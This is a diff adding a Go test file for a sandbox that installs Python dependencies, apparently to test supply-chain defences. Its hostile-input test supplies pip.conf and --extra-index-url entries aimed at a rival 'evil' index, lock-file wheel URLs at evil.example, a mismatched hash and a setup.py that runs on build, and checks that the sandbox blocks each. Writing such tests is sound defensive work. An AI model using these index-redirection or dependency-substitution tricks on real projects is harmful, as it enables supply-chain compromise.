@@ -1,0 +1,180 @@
+//go:build amd64 || arm64
+
+package gate
+
+import (
+	"archive/zip"
+	"bytes"
+	"crypto/sha256"
+	"encoding/hex"
+	"fmt"
+	"os"
+	"os/exec"
+	"strings"
+	"testing"
+
+	"github.com/precedent-dev/precedent"
+)
+
+// withPip is a runner that finds pip in a box.
+func withPip(t *testing.T) Runner {
+	t.Helper()
+	r := runner(t)
+	for _, name := range []string{"/usr/local/bin/python3", "/usr/bin/python3"} {
+		if exec.CommandContext(t.Context(), name, "-m", "pip", "--version").Run() == nil {
+			r.Path = "/usr/local/bin:/usr/bin:/bin"
+			return r
+		}
+	}
+	t.Skip("needs pip where a box finds it")
+	return r
+}
+
+// wheel makes a wheel of one module, which writes a file if its installation runs anything of it, and returns
+// its SHA-256.
+func wheel(t *testing.T, s *server, name, version, module string, requires ...string) string {
+	t.Helper()
+	var archive bytes.Buffer
+	content := zip.NewWriter(&archive)
+	info := name + "-" + version + ".dist-info/"
+	metadata := "Metadata-Version: 2.1\nName: " + name + "\nVersion: " + version + "\n"
+	for _, r := range requires {
+		metadata += "Requires-Dist: " + r + "\n"
+	}
+	for _, f := range [][2]string{
+		{name + "/__init__.py", module},
+		{info + "METADATA", metadata},
+		{info + "WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
+		{info + "entry_points.txt", "[console_scripts]\n" + name + " = " + name + ":main\n"},
+		{info + "RECORD", name + "/__init__.py,,\n" + info + "METADATA,,\n" + info + "WHEEL,,\n" + info + "entry_points.txt,,\n" + info + "RECORD,,\n"},
+	} {
+		w, err := content.Create(f[0])
+		if err == nil {
+			_, err = w.Write([]byte(f[1]))
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := content.Close(); err != nil {
+		t.Fatal(err)
+	}
+	sum := sha256.Sum256(archive.Bytes())
+	digest := hex.EncodeToString(sum[:])
+	file := name + "-" + version + "-py3-none-any.whl"
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	s.files["/files/"+file] = archive.Bytes()
+	page := "/simple/" + normalName(name) + "/"
+	if s.files[page] == nil {
+		s.files[page] = []byte("<!DOCTYPE html>\n")
+	}
+	s.files[page] = append(s.files[page], fmt.Sprintf("<a href=\"../../files/%s#sha256=%s\" data-requires-python=\"&gt;=3\">%s</a>\n", file, digest, file)...)
+	return digest
+}
+
+const sumsModule = "open('" + ran + "', 'w')\ndef add(a, b): return a + b\ndef main(): raise SystemExit(add(1, 2) != 3)\n"
+
+// pythonIndex serves two wheels, of which one needs the other, a newer one of the first, and a source package
+// that runs when it is built.
+func pythonServer(t *testing.T) (s *server, sums, more string) {
+	t.Helper()
+	t.Cleanup(func() { os.Remove(ran) })
+	s = newServer(t)
+	sums = wheel(t, s, "sums", "1.0.0", sumsModule)
+	wheel(t, s, "sums", "2.0.0", sumsModule+"raise SystemExit('too new')\n")
+	more = wheel(t, s, "more_sums", "1.0.0", "import sums\n", "sums>=1")
+	source := packed(t, "built-1.0.0/setup.py", "open('"+ran+"', 'w')\nfrom setuptools import setup\nsetup(name='built', version='1.0.0')\n", "built-1.0.0/PKG-INFO", "Metadata-Version: 2.1\nName: built\nVersion: 1.0.0\n")
+	sum := sha256.Sum256(source)
+	s.files["/files/built-1.0.0.tar.gz"] = source
+	s.files["/simple/built/"] = []byte(`{"meta":{"api-version":"1.0"},"name":"built","files":[{"filename":"built-1.0.0.tar.gz","url":"../../files/built-1.0.0.tar.gz","hashes":{"sha256":"` + hex.EncodeToString(sum[:]) + `"}}]}`)
+	s.kinds["/simple/built/"] = "application/vnd.pypi.simple.v1+json"
+	return s, sums, more
+}
+
+// TestPythonRepository gates repositories that say in various ways which wheels they need.
+func TestPythonRepository(t *testing.T) {
+	t.Parallel()
+	index, one, two := pythonServer(t)
+	test := []string{"test.py", "import sums, more_sums, shop, os\nassert sums.add(1, 2) == 3\nassert not os.path.exists('/etc/hostname')\n", "src/shop/__init__.py", ""}
+	uv := "version = 1\nrequires-python = \">=3.8\"\n\n[[package]]\nname = \"sums\"\nversion = \"1.0.0\"\nsource = { registry = \"https://pypi.org/simple\" }\nwheels = [{ url = \"https://evil.example/sums.whl\", hash = \"sha256:" + one + "\" }]\n\n" +
+		"[[package]]\nname = \"more-sums\"\nversion = \"1.0.0\"\nsource = { registry = \"https://pypi.org/simple\" }\nwheels = [{ url = \"https://evil.example/more.whl\", hash = \"sha256:" + two + "\" }]\n\n[[package]]\nname = \"shop\"\nversion = \"1.0.0\"\nsource = { editable = \".\" }\n"
+	for name, files := range map[string][]string{
+		"uv": {"pyproject.toml", "[project]\nname = 'shop'\nversion = '1'\ndependencies = ['sums', 'more-sums>=1']\n", "uv.lock", uv},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			r := withPip(t)
+			r.PythonIndex = index.url + "/simple/"
+			base := tree(t, append(files, test...)...)
+			q := request(base, "python3 test.py && sums")
+			q.Read = filesOf(base)
+			if got := r.Run(t.Context(), q); got.Status != Passed || got.Dependencies != "python: wheels as of the base" {
+				t.Fatalf("%+v", got)
+			}
+			if _, err := os.Stat(ran); err == nil {
+				t.Error("something ran outside of the sandbox")
+			}
+		})
+	}
+}
+
+// TestT1HostilePython: a tree cannot name another index, have a package built, or take a package of the same name
+// from the index in place of the one that its lock file means. What it cannot get is missing, and is not the
+// change's fault.
+func TestT1HostilePython(t *testing.T) {
+	t.Parallel()
+	index, _, _ := pythonServer(t)
+	evil := newServer(t)
+	for name, test := range map[string]struct{ text, why string }{
+		"a package that has to be built": {"built\n", "Could not find a version that satisfies the requirement built"},
+		"another file of the name":       {"sums==1.0.0 --hash=sha256:" + strings.Repeat("0", 64) + "\n", "Could not find a version that satisfies the requirement sums"},
+		"another index":                  {"--extra-index-url " + evil.url + "/simple\nsums\n", "names an index or folder of its own"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			r := withPip(t)
+			r.PythonIndex = index.url + "/simple"
+			base := tree(t, "requirements.txt", test.text, "pip.conf", "[global]\nindex-url = "+evil.url+"\n", "setup.py", "open('"+ran+"', 'w')\n", "test.py", "import sums\n")
+			q := request(base, "python3 test.py")
+			q.Read = filesOf(base)
+			if got := r.Run(t.Context(), q); got.Status != Skipped || got.Blocks || !strings.Contains(got.Dependencies, test.why) || !strings.Contains(got.Why, test.why) {
+				t.Errorf("%+v", got)
+			}
+		})
+	}
+	t.Cleanup(func() {
+		if _, err := os.Stat(ran); err == nil || len(evil.visits()) > 0 {
+			t.Errorf("a program of the tree ran: %v; the other index was asked for %q", err == nil, evil.visits())
+		}
+		for _, path := range index.visits() {
+			if strings.HasSuffix(path, ".tar.gz") {
+				t.Errorf("%s was fetched", path)
+			}
+		}
+	})
+}
+
+// TestChangedRequirements: what a change adds is fetched only if the policy says so, and into caches that the
+// base does not read.
+func TestChangedRequirements(t *testing.T) {
+	t.Parallel()
+	index, _, _ := pythonServer(t)
+	r := withPip(t)
+	r.PythonIndex = index.url + "/simple"
+	limits := []string{"requirements/all.txt", "Sums ; python_version > '3'\n-c limits.txt\n", "requirements/limits.txt", "sums<2\n"}
+	base := tree(t, append(limits, "requirements.txt", "-r requirements/all.txt\n", "test.py", "import sums\n")...)
+	q := request(tree(t, append(limits, "requirements.txt", "-r requirements/all.txt\nmore-sums\n", "test.py", "import more_sums\n")...), "python3 test.py")
+	q.Read = filesOf(base)
+	if got := r.Run(t.Context(), q); got.Status != Skipped || !strings.Contains(got.Why, "those that the change adds are not fetched") {
+		t.Errorf("%+v", got)
+	}
+	before := contentOf(t, r.keptDir("dependencies", q.Repo, Base))
+	q.Policy.Dependencies = precedent.DependenciesHead
+	if got := r.Run(t.Context(), q); got.Status != Passed || got.Dependencies != "python: wheels as of the change" {
+		t.Errorf("%+v", got)
+	}
+	if contentOf(t, r.keptDir("dependencies", q.Repo, Base)) != before {
+		t.Error("the change's dependencies are in the base's cache")
+	}
+}
